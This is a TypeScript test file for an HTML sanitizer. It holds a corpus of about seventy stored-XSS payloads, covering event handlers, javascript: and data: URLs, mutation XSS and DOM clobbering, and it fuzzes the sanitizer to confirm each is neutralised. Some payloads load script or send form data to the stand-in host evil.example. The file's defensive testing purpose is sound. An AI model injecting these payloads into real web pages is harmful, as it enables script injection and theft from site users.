import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { expect, test } from 'vitest'

import {
  isOwnPicture,
  isSafeLink,
  richTextAttributes,
  richTextTags,
} from '../../../platform/contract/richText.ts'
import { cleanHtml } from './cleanHtml.ts'

/**
 * Stored-XSS corpus (assurance SEC-26): handlers, schemes, frames, foreign content, mutation,
 * clobbering.
 */
const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/covers/track.svg" onload=alert(1)>',
  '<img/src=`x`onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/\\evil.example/pixel.png">',
  '<img srcset="//evil.example/1x.png 1x" src="/a.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">cover everything</p>',
  '<div class="navbar" id="root">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
  '<a href="https://ok.example" ping="//evil.example">x</a>',
  '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  '<form id="getElementById"><input id="attributes"></form>',
  '<img name="body" src="/a.png"><a id="defaultView"></a><a id="defaultView" name="document"></a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<td background="javascript:alert(1)">x</td>',
  '<table><tr><td><a href="javascript:alert(1)"><img src=x onerror=alert(1)></a></td></tr></table>',
  '<p>\u003cscript\u003ealert(1)\u003c/script\u003e</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p onmouseover\u00a0=alert(1)>x</p>',
  '<a\u000chref="javascript:alert(1)">x</a>',
  '<p/onclick=alert(1)//>x',
  '<<p>img src=x onerror=alert(1)>',
  '<img src="/a.png" alt="`><script>alert(1)</script>">',
  '<portal src="javascript:alert(1)"></portal>',
]

/**
 * The parts of the text outside the allow-list, found by a parser that is independent of the
 * sanitizer.
 */
function foreignParts(html: string): string[] {
  const found: string[] = []
  const parser = new Parser(
    {
      onopentag(tag, attributes) {
        if (!richTextTags.some((one) => one === tag)) found.push(`<${tag}>`)
        const allowed =
          new Map<string, readonly string[]>(Object.entries(richTextAttributes)).get(tag) ?? []
        for (const [name, value] of Object.entries(attributes)) {
          if (!allowed.includes(name)) found.push(`${tag} ${name}`)
          if (name === 'href' && !isSafeLink(value)) found.push(`href ${value}`)
          if (name === 'src' && !isOwnPicture(value)) found.push(`src ${value}`)
        }
      },
      oncomment: (text) => void found.push(`<!--${text}`),
    },
    { decodeEntities: true },
  )
  parser.end(html)
  return found
}

test('SEC-26: every attack is reduced to plain text and harmless markup', () => {
  for (const attack of attacks) expect(foreignParts(cleanHtml(attack)), attack).toEqual([])
})

test('SEC-26: attacks nested and cut in any way stay harmless', () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom('<p>', '</p>', '<b', '">', "'", '<table>', '</a>', '<a href="'),
    fc.string(),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), fc.nat(400), (pieces, cut) => {
      const clean = cleanHtml(pieces.join('').slice(0, cut))

      expect(foreignParts(clean)).toEqual([])
      expect(foreignParts(cleanHtml(clean))).toEqual([])
    }),
  )
})

test('ordinary text keeps its headings, lists, tables, links and pictures', () => {
  const text =
    '<h3>怎么办</h3><p>请看<a href="https://edu.example/a?b=1">说明</a>，或<a href="#/pages/news/list">新闻</a>，电话<a href="tel:010-1">010-1</a>。</p>' +
    '<ul><li><strong>材料</strong>齐全</li></ul><table><thead><tr><th scope="col">时间</th></tr></thead><tbody><tr><td colspan="2">周五</td></tr></tbody></table>' +
    '<figure><img src="/covers/track.svg" alt="跑道" width="640" height="480" /><figcaption>跑道</figcaption></figure>'

  expect(cleanHtml(text)).toBe(text)
})

test('a picture of our own is kept by its path, whatever host its whole address names', () => {
  expect(cleanHtml('<img src="https://school.example:3100/api/blade-x/file/1?sign=a" />')).toBe(
    '<img src="/api/blade-x/file/1?sign=a" />',
  )
  expect(
    cleanHtml('<img src="https://school.example/a.png" /><img src="//x.example/api/a" />'),
  ).toBe('')
})
